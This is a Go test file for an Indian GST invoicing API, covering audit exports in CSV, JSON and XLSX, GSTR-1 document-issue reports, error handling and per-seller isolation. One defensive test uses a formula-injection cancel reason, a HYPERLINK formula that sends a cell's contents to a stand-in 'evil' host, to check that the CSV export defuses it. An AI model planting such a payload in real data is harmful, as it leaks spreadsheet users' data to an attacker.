package api

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"github.com/invoiced/invoiced/internal/testfactory"

	"github.com/invoiced/invoiced/apikey"
	"github.com/xuri/excelize/v2"
)

func TestAuditExport(t *testing.T) {
	t.Parallel()
	e := setup(t)
	for range 3 {
		e.mustIssue("CH1", "2026-11-29")
	}
	first := e.mustIssue("CH1", "2026-11-29")
	e.wantStatus(e.do("POST", "/v1/invoices/"+first.ID+"/cancel", e.all, `{"reason":"wrong buyer"}`), http.StatusOK)

	r := e.do("GET", "/v1/series/ch1/audit?fy=2026-27&format=csv", e.read, "")
	e.wantStatus(r, http.StatusOK)
	if ct := r.header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Fatalf("content type %q", ct)
	}
	if cd := r.header.Get("Content-Disposition"); cd != `attachment; filename="CH1-2026-27-audit.csv"` {
		t.Fatalf("content disposition %q", cd)
	}
	body, ok := bytes.CutPrefix(r.body, []byte("\xef\xbb\xbf"))
	if !ok {
		t.Fatal("CSV has no UTF-8 BOM")
	}
	recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse as one table: %v", err)
	}
	if recs[0][0] != "Serial" {
		t.Fatalf("CSV header %q", recs[0])
	}
	rows := recs[1:]
	if len(rows) != 4 || rows[3][1] != "CH1/26-27/00004" || rows[3][4] != "cancelled" || rows[3][5] != "wrong buyer" {
		t.Fatalf("audit rows %v", rows)
	}

	// The summary is a table of its own.
	r = e.do("GET", "/v1/series/CH1/audit?fy=2026-27&format=csv&part=summary", e.read, "")
	e.wantStatus(r, http.StatusOK)
	if cd := r.header.Get("Content-Disposition"); cd != `attachment; filename="CH1-2026-27-audit-summary.csv"` {
		t.Fatalf("content disposition %q", cd)
	}
	sum, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.body, []byte("\xef\xbb\xbf")))).ReadAll()
	if err != nil || sum[0][0] != "Field" || sum[7][0] != "Total" || sum[7][1] != "4" {
		t.Fatalf("summary CSV %q, %v", sum, err)
	}
	r = e.do("GET", "/v1/series/CH1/audit?format=json&part=rows", e.read, "")
	e.wantStatus(r, http.StatusOK)
	var audit struct {
		Summary map[string]any   `json:"summary"`
		Rows    []map[string]any `json:"rows"`
	}
	if err := json.Unmarshal(r.body, &audit); err != nil {
		t.Fatalf("JSON audit: %v", err)
	}
	if len(audit.Rows) != 4 || audit.Summary["cancelled"] != float64(1) || audit.Summary["net_issued"] != float64(3) {
		t.Fatalf("JSON audit summary %v, %d rows", audit.Summary, len(audit.Rows))
	}

	r = e.do("GET", "/v1/series/CH1/audit?format=xlsx", e.read, "")
	e.wantStatus(r, http.StatusOK)
	f, err := excelize.OpenReader(bytes.NewReader(r.body))
	if err != nil {
		t.Fatalf("XLSX does not open: %v", err)
	}
	defer f.Close()
	if sheets := f.GetSheetList(); strings.Join(sheets, ",") != "Summary,Rows" {
		t.Fatalf("sheets %v", sheets)
	}

	e.wantError(e.do("GET", "/v1/series/CH1/audit?format=pdf", e.read, ""), http.StatusUnprocessableEntity, "invalid_report_format")
	e.wantError(e.do("GET", "/v1/series/CH1/audit?part=head", e.read, ""), http.StatusUnprocessableEntity, "invalid_report_part")
	e.wantError(e.do("GET", "/v1/series/CH1/audit?fy=2025-26", e.read, ""), http.StatusNotFound, "series_year_not_found")
	e.wantError(e.do("GET", "/v1/series/CH1/audit?fy=2025-26&part=summary&format=csv", e.read, ""), http.StatusNotFound, "series_year_not_found")
	e.wantError(e.do("GET", "/v1/series/CH1/audit?fy=2026", e.read, ""), http.StatusUnprocessableEntity, "invalid_date")
	e.wantError(e.do("GET", "/v1/series/NOPE/audit", e.read, ""), http.StatusNotFound, "series_not_found")
	e.wantError(e.do("GET", "/v1/series/CH1/audit", "", ""), http.StatusUnauthorized, "unauthorized")

	// Another seller's key sees nothing of ours.
	other := testfactory.Seller(t, e.pool, &testfactory.SellerOpts{GSTIN: otherGSTIN, Name: "Other Traders"})
	otherKey := mustKey(t, e.pool, other.ID, apikey.ScopeRead)
	e.wantError(e.do("GET", "/v1/series/CH1/audit", otherKey, ""), http.StatusNotFound, "series_not_found")
}

func TestGSTR1DocIssue(t *testing.T) {
	t.Parallel()
	e := setup(t)
	for range 3 {
		e.mustIssue("CH1", "2026-11-29")
	}
	last := e.mustIssue("CH1", "2026-11-29")
	e.wantStatus(e.do("POST", "/v1/invoices/"+last.ID+"/cancel", e.all, `{"reason":"duplicate"}`), http.StatusOK)

	r := e.do("GET", "/v1/reports/gstr1/doc-issue?fp=112026", e.read, "")
	e.wantStatus(r, http.StatusOK)
	want := `{"gstin":"27AAPFU0939F1ZV","fp":"112026","doc_issue":{"doc_det":[{"doc_num":1,"docs":[{"num":1,"from":"CH1/26-27/00001","to":"CH1/26-27/00004","totnum":4,"cancel":1,"net_issue":3}]}]}}`
	if string(r.body) != want {
		t.Fatalf("doc_issue\n got %s\nwant %s", r.body, want)
	}
	r = e.do("GET", "/v1/reports/gstr1/doc-issue?fp=2026-27-Q3", e.read, "")
	e.wantStatus(r, http.StatusOK)
	if !strings.Contains(string(r.body), `"fp":"122026"`) || !strings.Contains(string(r.body), `"totnum":4`) {
		t.Fatalf("quarter: %s", r.body)
	}
	e.wantError(e.do("GET", "/v1/reports/gstr1/doc-issue", e.read, ""), http.StatusUnprocessableEntity, "invalid_period")
	e.wantError(e.do("GET", "/v1/reports/gstr1/doc-issue?fp=132026", e.read, ""), http.StatusUnprocessableEntity, "invalid_period")
	e.wantError(e.do("GET", "/v1/reports/gstr1/doc-issue?fp=112026", e.issue, ""), http.StatusForbidden, "forbidden")
}

// TestAuditCSVDefusesFormulasInBothLocales: a cancel reason that a
// spreadsheet would run as a formula is defused whether the CSV is split
// at commas or, as in locales whose list separator is ';', at semicolons.
func TestAuditCSVDefusesFormulasInBothLocales(t *testing.T) {
	t.Parallel()
	e := setup(t)
	inv := e.mustIssue("CH1", "")
	reason := `wrong buyer;=HYPERLINK("http://evil/?"&A1,"x"); +1;@SUM(A1)`
	e.wantStatus(e.do("POST", "/v1/invoices/"+inv.ID+"/cancel", e.all, `{"reason":`+strconvQuote(reason)+`}`), http.StatusOK)
	r := e.do("GET", "/v1/series/CH1/audit?fy=2026-27&format=csv", e.read, "")
	e.wantStatus(r, http.StatusOK)
	body, _ := bytes.CutPrefix(r.body, []byte("\xef\xbb\xbf"))
	for _, sep := range []rune{',', ';'} {
		cr := csv.NewReader(bytes.NewReader(body))
		cr.Comma, cr.FieldsPerRecord, cr.LazyQuotes = sep, -1, true
		recs, err := cr.ReadAll()
		if err != nil {
			t.Fatalf("CSV split at %q: %v", sep, err)
		}
		for _, rec := range recs {
			for _, cell := range rec {
				if c := strings.TrimLeft(cell, " "); c != "" && strings.ContainsRune("=+-@", rune(c[0])) && !isNumber(c) {
					t.Errorf("split at %q, the cell %q would run as a formula", sep, cell)
				}
			}
		}
	}
}

func strconvQuote(s string) string { b, _ := json.Marshal(s); return string(b) }

// isNumber reports whether s is a signed decimal (a spreadsheet reads it as
// a number, not a formula).
func isNumber(s string) bool {
	s = strings.TrimLeft(s, "+-")
	return s != "" && strings.Trim(s, "0123456789.") == ""
}
